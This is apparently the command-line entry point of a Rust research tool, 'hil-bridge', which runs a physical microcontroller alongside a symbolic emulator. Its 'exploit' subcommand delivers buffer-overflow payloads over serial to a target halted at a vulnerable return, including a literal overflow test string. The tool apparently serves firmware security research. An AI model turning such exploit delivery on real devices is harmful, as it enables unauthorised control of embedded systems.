// Copyright (c) 2026 HIL-Bridge Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

use std::fs;
use std::io;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use clap::{Args, Parser, Subcommand};
use log::info;

use hil_bridge::channel::SerialPayloadChannel;
use hil_bridge::transport::share;
use hil_bridge::{
    run_delivery, DeliveryConfig, PayloadSpec, RemoteEmulator, RwLogMonitor, Session,
    SessionConfig, TcpProbeTransport,
};

const PROBE_TIMEOUT: Duration = Duration::from_secs(5);

#[derive(Parser, Debug)]
#[command(name = "hil-bridge", about = "Couple a physical MCU with a symbolic emulator")]
struct Cli {
    /// Path to the session configuration JSON
    #[arg(short = 'c', long = "config", default_value = "session.json")]
    config: PathBuf,

    /// Enable debug logging
    #[arg(short = 'd', long = "debug", default_value_t = false)]
    debug: bool,

    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand, Debug)]
enum Command {
    /// Run the co-execution session: flash, arm, hand off to the emulator
    Run,
    /// Deliver the exploit payload to the re-armed target
    Exploit(ExploitArgs),
}

#[derive(Args, Debug)]
struct ExploitArgs {
    /// Payload mode: test, trace, or trace-generic
    #[arg(short = 'm', long = "mode", default_value = "test")]
    mode: String,

    /// Captured symbolic-execution trace (trace modes)
    #[arg(long)]
    trace: Option<PathBuf>,

    /// Payload template file (trace mode)
    #[arg(long)]
    template: Option<PathBuf>,

    /// Canned payload file (trace-generic mode)
    #[arg(long)]
    payload_file: Option<PathBuf>,
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    // Keep the handle alive or logging shuts down with it.
    let _logger = flexi_logger::Logger::try_with_env_or_str(if cli.debug { "debug" } else { "info" })
        .context("logger setup")?
        .start()
        .context("logger start")?;

    let config = SessionConfig::from_file(&cli.config)
        .with_context(|| format!("loading {}", cli.config.display()))?;

    match cli.command {
        Command::Run => run_session(config),
        Command::Exploit(args) => run_exploit(config, args),
    }
}

fn run_session(config: SessionConfig) -> Result<()> {
    info!("connecting to probe at {}", config.probe_addr);
    let probe = TcpProbeTransport::connect(&config.probe_addr, PROBE_TIMEOUT)
        .with_context(|| format!("connecting to probe {}", config.probe_addr))?;

    info!("connecting to emulator debug port at {}", config.emulator_addr);
    let emulator_link = TcpProbeTransport::connect(&config.emulator_addr, PROBE_TIMEOUT)
        .with_context(|| format!("connecting to emulator {}", config.emulator_addr))?;
    let emulator = RemoteEmulator::new(
        Box::new(emulator_link),
        config.remote_memory_listen.clone(),
    );

    let mut session = Session::new(config, Box::new(probe))?;
    session.add_monitor(Box::new(RwLogMonitor));
    session.attach_target()?;
    session.attach_emulator(Box::new(emulator))?;
    session.start()?;

    println!("Co-execution running. Press enter to stop and prepare exploit delivery.");
    let mut line = String::new();
    io::stdin().read_line(&mut line)?;

    session.stop()?;
    session.shutdown()?;
    info!("session torn down; target is armed at the vulnerable return");
    Ok(())
}

fn run_exploit(config: SessionConfig, args: ExploitArgs) -> Result<()> {
    let payload = match args.mode.as_str() {
        "test" => PayloadSpec::Literal {
            input: "I".to_string(),
            payload: "AAAAAAAAAAAAAAAAAAAAdcbaA".to_string(),
        },
        "trace" => PayloadSpec::FromTrace {
            trace: args.trace.context("--trace is required in trace mode")?,
            template: args
                .template
                .context("--template is required in trace mode")?,
        },
        "trace-generic" => PayloadSpec::TraceInputWithFilePayload {
            trace: args
                .trace
                .context("--trace is required in trace-generic mode")?,
            payload_file: args
                .payload_file
                .context("--payload-file is required in trace-generic mode")?,
        },
        other => bail!("unknown payload mode '{}'", other),
    };

    fs::create_dir_all(&config.output_dir)?;
    let delivery = DeliveryConfig {
        entry_breakpoint: config.entry_breakpoint,
        vuln_return_breakpoint: config.vuln_return_breakpoint,
        payload,
        payload_out: config.output_dir.join("buffer_overflow.txt"),
    };

    let probe = TcpProbeTransport::connect(&config.probe_addr, PROBE_TIMEOUT)
        .with_context(|| format!("connecting to probe {}", config.probe_addr))?;
    let channel = SerialPayloadChannel::new(config.serial.clone());

    let report = run_delivery(share(Box::new(probe)), Box::new(channel), delivery)?;
    println!(
        "Delivery complete: pc=0x{:08x} lr=0x{:08x}, payload saved to {}",
        report.registers.pc(),
        report.registers.lr(),
        report.payload_file.display()
    );
    Ok(())
}
